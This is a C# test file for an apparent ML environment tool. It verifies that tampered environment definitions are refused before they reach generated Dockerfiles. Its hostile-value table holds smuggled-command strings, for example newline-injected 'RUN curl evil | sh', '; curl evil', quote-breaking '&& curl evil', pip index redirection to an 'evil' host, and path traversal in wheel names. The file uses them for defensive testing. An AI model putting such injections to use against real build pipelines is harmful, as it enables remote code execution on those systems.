using MlEnv.Definition;
using MlEnv.Diagnostics;
using MlEnv.Generation;
using MlEnv.Specs;
using MlEnv.Store;

namespace MlEnv.Tests;

/// <summary>
/// A definition read back from a file is checked again before any of it reaches a generated file: every definition
/// the builder makes passes, and a hostile value in any field of one does not.
/// </summary>
public class DefinitionCheckTests
{
    private static EnvironmentDefinition Sample() => Defs.Build(new DefinitionInputs
    {
        Name = "v",
        Project = new SourceLocation("/proj/v.csproj"),
        PythonVersion = "3.11",
        CondaChannels = [("conda-forge", default)],
        CondaPackages = [new("numpy", "1.26", null, null, default), new("scipy", null, "conda-forge", "py311*", default)],
        PipPackages = [new("scikit-learn", ">=1.4,<2", null, null, default), new("requests", null, "socks", "python_version >= '3.8'", default)],
        PipIndexUrl = "https://pypi.example/simple",
        PipExtraIndexUrls = [("https://extra.example/simple", default)],
        AptPackages = [new("libgomp1", "12.2.0-14", default)],
        Variables = [new("OMP_NUM_THREADS", "1", default)],
        Labels = [new("team", "ml", default)],
    });

    [Fact]
    public void EveryDefinitionTheBuilderMakesPasses()
    {
        Assert.Null(DefinitionCheck.Problem(Sample()));
        foreach (var (name, inputs) in GoldenVectorTests.Vectors())
        {
            var result = DefinitionBuilder.Build(inputs);
            Assert.True(result.Success, name);
            Assert.Null(DefinitionCheck.Problem(result.Definition!));
        }
        // Every requirement the builder accepts (the corpus, generated requirements and markers, the adversarial
        // corpus), as the one pip package of a definition.
        var corpus = File.ReadAllLines(Path.Combine(AppContext.BaseDirectory, "TestData", "requirements-corpus.txt"))
            .Where(l => l.Length > 0 && !l.StartsWith('#'))
            .Concat(DifferentialPackagingTests.Generated(1200, seed: 508))
            .Concat(MarkerEvaluationTests.GeneratedMarkers(600, seed: 440).Select(m => "demo; " + m))
            .Concat(AdversarialCorpus.Requirements.Select(c => c.Input))
            .Distinct();
        var accepted = 0;
        foreach (var line in corpus)
        {
            var result = DefinitionBuilder.Build(new DefinitionInputs { Name = "v", BaseImage = "debian:bookworm-slim", PipPackages = [new(line, null, null, null, default)] });
            if (!result.Success) continue;
            accepted++;
            Assert.True(DefinitionCheck.Problem(result.Definition!) is null, line);
        }
        Assert.True(accepted > 1000, $"{accepted} accepted");
    }

    public static TheoryData<string, Func<EnvironmentDefinition, EnvironmentDefinition>> Hostile() => new()
    {
        { "format", d => d with { FormatVersion = 2 } },
        { "python", d => d with { PythonVersion = "3.11\nRUN curl evil | sh" } },
        { "base image", d => d with { Base = BaseSpec.FromImage("debian\nRUN curl evil | sh") } },
        { "dockerfile hash", d => d with { Base = new BaseSpec(null, "FROM debian:bookworm-slim\n", new string('0', 64)) } },
        { "dockerfile copy", d => d with { Base = Dockerfile("FROM debian:bookworm-slim\nCOPY secret /x\n") } },
        { "dockerfile continuation", d => d with { Base = Dockerfile("FROM debian:bookworm-slim\nRUN echo \\\n") } },
        { "parent", d => d with { Parent = new ParentEnvironment("p", new string('a', 64), "mlenv/p:x y") } },
        { "executable", d => d with { CondaExecutable = "micromamba; curl evil" } },
        { "channel", d => d with { CondaChannels = ["conda-forge\n"] } },
        { "conda spec", d => d with { CondaPackages = [new("numpy", "numpy=1.26.*\nRUN x")] } },
        { "conda name", d => d with { CondaPackages = [new("other", d.CondaPackages[0].Spec)] } },
        { "pip", d => d with { PipPackages = [new("requests", "requests\n--index-url=http://evil/", [])] } },
        { "pip option", d => d with { PipPackages = [new("requests", "requests --index-url=http://evil/", [])] } },
        { "pip comment", d => d with { PipPackages = [new("requests", "requests #x", [])] } },
        { "pip spelling", d => d with { PipPackages = [new("requests", "Requests>=2", [])] } },
        { "pip name", d => d with { PipPackages = [new("other", "requests>=2", [])] } },
        { "pip hash", d => d with { PipPackages = [new("requests", "requests==2.31.0", ["md5:abc"])] } },
        { "constraint", d => d with { PipConstraints = ["numpy<2\u2028RUN x"] } },
        { "index credentials", d => d with { PipIndex = d.PipIndex with { IndexUrl = "https://user:secret@pypi.example/simple" } } },
        { "index token", d => d with { PipIndex = d.PipIndex with { ExtraIndexUrls = ["https://pypi.example/simple?token=abc"] } } },
        { "index scheme", d => d with { PipIndex = d.PipIndex with { FindLinks = ["file:///etc"] } } },
        { "index variable", d => d with { PipIndex = d.PipIndex with { IndexUrl = "http://172.17.0.1:1/${MLENV_PIP_INDEX_PASSWORD}/simple" } } },
        { "index not absolute form", d => d with { PipIndex = d.PipIndex with { FindLinks = ["HTTPS://pypi.example/simple"] } } },
        { "parent hash", d => d with { Parent = new ParentEnvironment("p", "FAKE\u001b[2J", "mlenv/p:abc") } },
        { "manager", d => d with { Manager = (EnvironmentManager)7 } },
        { "index quote", d => d with { PipIndex = d.PipIndex with { IndexUrl = "https://pypi.example/simple' && curl evil '" } } },
        { "wheel name", d => d with { Wheels = [new WheelFile("../../x-1.0-py3-none-any.whl", new string('a', 64), 1, "/x")] } },
        { "wheel hash", d => d with { Wheels = [new WheelFile("x-1.0-py3-none-any.whl", "not-a-sha", 1, "/x")] } },
        { "apt", d => d with { AptPackages = [new AptPackage("libgomp1 && curl evil", null)] } },
        { "apt version", d => d with { AptPackages = [new AptPackage("libgomp1", "1\nRUN x")] } },
        { "variable name", d => d with { Variables = new Dictionary<string, string> { ["A B"] = "1" } } },
        { "variable value", d => d with { Variables = new Dictionary<string, string> { ["A"] = "1\nRUN x" } } },
        { "variable NUL", d => d with { Variables = new Dictionary<string, string> { ["A"] = "1\0" } } },
        { "label reserved", d => d with { Labels = new Dictionary<string, string> { ["org.mlenv.definition-hash"] = "x" } } },
        { "label value", d => d with { Labels = new Dictionary<string, string> { ["team"] = "ml\u0085x" } } },
    };

    private static BaseSpec Dockerfile(string text) =>
        new(null, text, Convert.ToHexStringLower(System.Security.Cryptography.SHA256.HashData(System.Text.Encoding.UTF8.GetBytes(text))));

    [Fact]
    public void ABaseDockerfileTheHashNamesAndTheRulesTakePasses()
    {
        var text = "FROM debian:bookworm-slim\r\nRUN apt-get update\r\n";
        Assert.Null(DefinitionCheck.Problem(Sample() with { Base = Dockerfile(text) }));
        // A file with a byte-order mark: the hash is of its bytes, the store keeps its text.
        var withBom = Convert.ToHexStringLower(System.Security.Cryptography.SHA256.HashData([0xEF, 0xBB, 0xBF, .. System.Text.Encoding.UTF8.GetBytes(text)]));
        Assert.Null(DefinitionCheck.Problem(Sample() with { Base = new BaseSpec(null, text, withBom) }));
    }

    [Theory]
    [MemberData(nameof(Hostile))]
    public void AHostileValueInAnyFieldIsRefused(string field, Func<EnvironmentDefinition, EnvironmentDefinition> tamper)
    {
        var problem = DefinitionCheck.Problem(tamper(Sample()));
        Assert.True(problem is not null, field);
        Assert.DoesNotContain("\n", problem);
        Assert.DoesNotContain("secret", problem);
    }

    private static EnvironmentDefinition Injected() =>
        Sample() with { AptPackages = [new AptPackage("libgomp1\nRUN curl evil | sh", null)] };

    [Fact]
    public void AFolderWithATamperedDefinitionIsNotRegistered()
    {
        var folder = Directory.CreateTempSubdirectory("mlenv-check-").FullName;
        try
        {
            // Canonical bytes and a matching definition.sha256: only the value gives it away.
            var canonical = CanonicalJson.Serialize(Injected());
            File.WriteAllText(Path.Combine(folder, GeneratedEnvironment.DefinitionFile), canonical);
            File.WriteAllText(Path.Combine(folder, GeneratedEnvironment.HashFile), CanonicalJson.HashOf(canonical) + "\n");
            var read = DefinitionFolder.Read(folder, "v");
            Assert.Equal(DiagnosticCatalog.ToolInvalidDefinition.Code, read!.Problem?.Code);
            Assert.Contains("apt package", read.Problem!.Message);
        }
        finally { Directory.Delete(folder, recursive: true); }
    }

    [Fact]
    public async Task AStoreRecordWithATamperedDefinitionIsNotDownloaded()
    {
        var root = Directory.CreateTempSubdirectory("mlenv-check-store-").FullName;
        try
        {
            var store = new EnvironmentStore(root);
            var canonical = CanonicalJson.Serialize(Injected());
            await store.RegisterAsync("v", CanonicalJson.HashOf(canonical), canonical, null, [], null, CancellationToken.None);
            var entry = store.Versions("v").Single();
            var problem = EnvironmentDownload.Problem(store, entry, store.Definition(entry), root);
            Assert.Equal(DiagnosticCatalog.InvalidStoreRequest.Code, problem?.Code);
            // The untampered definition is written out.
            var good = CanonicalJson.Serialize(Sample());
            await store.RegisterAsync("w", CanonicalJson.HashOf(good), good, null, [], null, CancellationToken.None);
            var goodEntry = store.Versions("w").Single();
            Assert.Null(EnvironmentDownload.Problem(store, goodEntry, store.Definition(goodEntry), root));
        }
        finally { Directory.Delete(root, recursive: true); }
    }

    public static TheoryData<string> Payloads() => ["\n", "\u2028", "\0", " #x", " --index-url=x", new string('[', 100_000) + new string(']', 100_000), new string('a', 1_000_000)];

    /// <summary>
    /// The tool's own input paths, fed the sweep's payloads (InputPathSweepTests): a definition folder's values, its
    /// whole definition.json, the name given for it, and the name and version a command asks the store for. Each ends
    /// in a coded diagnostic within seconds, never an exception.
    /// </summary>
    [Theory]
    [MemberData(nameof(Payloads))]
    public async Task TheToolsInputPathsRefuseTheSweepsPayloadsWithACode(string payload)
    {
        var watch = System.Diagnostics.Stopwatch.StartNew();
        var folder = Directory.CreateTempSubdirectory("mlenv-sweep-").FullName;
        try
        {
            void Write(string canonical)
            {
                File.WriteAllText(Path.Combine(folder, GeneratedEnvironment.DefinitionFile), canonical);
                File.WriteAllText(Path.Combine(folder, GeneratedEnvironment.HashFile), CanonicalJson.HashOf(canonical) + "\n");
            }
            // Names and specs take none of the payloads but a run of letters (as the builder takes them); a value
            // (quoted where it is written) takes all but the control characters and line separators.
            var forbidden = TextRules.FirstForbidden(payload) >= 0;
            var name = !payload.All(char.IsAsciiLetterOrDigit);
            foreach (var (tampered, refused) in new[]
            {
                (Sample() with { AptPackages = [new AptPackage("libgomp1" + payload, null)] }, name),
                (Sample() with { PipPackages = [new PipPackage("six", "six" + payload, [])] }, true), // the name no longer matches
                (Sample() with { CondaChannels = ["conda-forge" + payload] }, name),
                (Sample() with { Variables = new Dictionary<string, string> { ["A" + payload] = "1" } }, name),
                (Sample() with { Variables = new Dictionary<string, string> { ["A"] = "1" + payload } }, forbidden),
                (Sample() with { Labels = new Dictionary<string, string> { ["team"] = payload } }, forbidden),
            })
            {
                Write(CanonicalJson.Serialize(tampered));
                var read = DefinitionFolder.Read(folder, "v");
                Assert.Equal(refused, read?.Problem is not null);
                if (refused) Assert.StartsWith("MLENV", read!.Problem!.Code);
            }
            // The payload as the whole file: not JSON, or JSON nested past the reader's depth.
            Write(payload);
            Assert.StartsWith("MLENV", DefinitionFolder.Read(folder, "v")!.Problem!.Code);
            // As the name given for the folder.
            Write(CanonicalJson.Serialize(Sample()));
            Assert.Equal(DiagnosticCatalog.InvalidName.Code, DefinitionFolder.Read(folder, "v" + payload)!.Problem!.Code);
            Assert.Null(DefinitionFolder.Read(folder, "v")!.Problem);

            // As the name or the version asked of a store.
            var store = new EnvironmentStore(Path.Combine(folder, "store"));
            var canonical = CanonicalJson.Serialize(Sample());
            await store.RegisterAsync("v", CanonicalJson.HashOf(canonical), canonical, null, [], null, CancellationToken.None);
            Assert.Null(store.FindVersion("v" + payload, null, out var byName));
            Assert.StartsWith("MLENV", byName!.Code);
            Assert.Null(store.FindVersion("v", "1" + payload, out var byVersion));
            Assert.StartsWith("MLENV", byVersion!.Code);
        }
        finally { Directory.Delete(folder, recursive: true); }
        Assert.True(watch.Elapsed < TimeSpan.FromSeconds(20), $"{watch.Elapsed}");
    }

    [Fact]
    public async Task AnEnvironmentOnABaseDockerfileWithAByteOrderMarkIsDownloadedAsRegistered()
    {
        var root = Directory.CreateTempSubdirectory("mlenv-check-bom-").FullName;
        try
        {
            // As a build registers it: the file's bytes hashed, its text (read as .NET reads text) stored.
            var path = Path.Combine(root, "base.Dockerfile");
            File.WriteAllBytes(path, [0xEF, 0xBB, 0xBF, .. System.Text.Encoding.UTF8.GetBytes("FROM debian:bookworm-slim\r\nRUN apt-get update\r\n")]);
            var definition = Defs.Build(new DefinitionInputs { Name = "bom", Project = new SourceLocation("/proj/bom.csproj"), BaseDockerfile = path });
            var canonical = CanonicalJson.Serialize(definition);
            var store = new EnvironmentStore(Path.Combine(root, "store"));
            await store.RegisterAsync("bom", CanonicalJson.HashOf(canonical), canonical, null, [], File.ReadAllText(path), CancellationToken.None);
            var entry = store.Versions("bom").Single();
            Assert.Null(EnvironmentDownload.Problem(store, entry, store.Definition(entry), store.Root));
        }
        finally { Directory.Delete(root, recursive: true); }
    }
}
